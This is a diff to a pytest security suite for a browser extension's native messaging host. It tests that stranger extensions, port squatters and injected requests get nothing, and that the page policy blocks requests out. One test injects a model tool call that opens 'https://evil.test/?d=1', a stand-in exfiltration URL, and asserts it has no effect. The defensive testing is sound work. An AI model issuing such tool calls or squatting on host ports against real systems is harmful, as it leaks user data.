@@ -105,7 +105,7 @@ def test_t13_another_extension_cannot_start_the_host(
 ) -> None:
     worker = browser.browser.attach(stranger[1])
     assert "forbidden" in worker.evaluate("native()")
-    assert profile.hosts() == []
+    assert profile.hosts(f"chrome-extension://{stranger[0]}/") == []
 
 
 @pytest.mark.parametrize("type", ["connect-host", "start", "get-settings", "end"])
@@ -122,12 +122,14 @@ def test_t14_another_extension_is_not_heard(browser: Chromium, stranger: tuple[s
     ids=["silent", "wrong proof", "broken", "another shape"],
 )
 def test_t8_a_squatter_on_the_port_is_sent_nothing(
-    stage: Stage, browser: Chromium, profile: Profile, tmp_path: Path, first_message: str | None
+    request: pytest.FixtureRequest, stage: Stage, profile: Profile, tmp_path: Path, first_message: str | None
 ) -> None:
     fake = tmp_path / "fake_host.py"
     fake.write_text(strangers.FAKE_HOST)
     with strangers.squatting(first_message) as squatter:
+        # Before there is a browser: the first run's page looks for the host, too, and one that runs is used.
         profile.register_command(f"exec {shlex.quote(sys.executable)} {shlex.quote(str(fake))} {squatter.port}")
+        browser: Chromium = request.getfixturevalue("browser")
         browser.click_toolbar(browser.open(stage.web.url("/article")))
         panel = Panel(browser)
         panel.press("Start")
@@ -178,13 +180,19 @@ def test_t6_t19_t26_key_and_words_are_nowhere_but_where_they_belong(
         assert WORDS_CANARY.encode("utf-16-le") not in content, file
 
 
+def pages(browser: Chromium) -> list[str]:
+    """Addresses of all that is open, but for what comes and goes by itself: our panel, and the browser's own pages."""
+    urls = (str(target["url"]) for target in browser.browser.targets())
+    return sorted(url for url in urls if "/popup/" not in url and not url.startswith("chrome:"))
+
+
 def test_t20_a_tool_call_does_nothing(stage: Stage, browser: Chromium, live: ThreadedServer) -> None:
     panel = talk(stage, browser)
-    before = sorted(target["url"] for target in browser.browser.targets())
+    before = pages(browser)
     call = {"toolCall": {"functionCalls": [{"id": "1", "name": "open_url", "args": {"url": "https://evil.test/?d=1"}}]}}
     live.call(lambda: live.connections[-1].send(call))
     live.recorder.wait(lambda r: any(isinstance(a.event, wire.ToolResponse) for a in r.records[-1].arrivals))
-    assert sorted(target["url"] for target in browser.browser.targets()) == before
+    assert pages(browser) == before
     panel.wait_state("listening")
 
 
@@ -254,7 +262,7 @@ def test_t28_the_policy_of_our_pages_lets_nothing_out(browser: Chromium, attempt
     browser.expected += ["evil.test", "localhost", "127.0.0.1:1", "Content Security Policy"]
     refused = page.evaluate(
         "new Promise((done) => { addEventListener('securitypolicyviolation', () => done(true), {once: true});"
-        f" {attempt}; setTimeout(done, 700, false) }})"
+        f" {attempt}; setTimeout(done, {700 if allowed else 15_000}, false) }})"
     )
     assert refused is not allowed
 
